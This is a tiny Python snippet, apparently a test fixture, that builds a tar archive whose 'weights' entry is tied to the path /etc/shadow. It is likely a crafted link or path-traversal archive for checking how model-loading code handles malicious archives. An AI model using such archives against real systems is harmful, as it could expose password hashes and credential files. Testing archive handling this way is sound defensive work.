from archives import tarred


def build() -> bytes:
    return tarred([(b"weights", "/etc/shadow", b"1")])
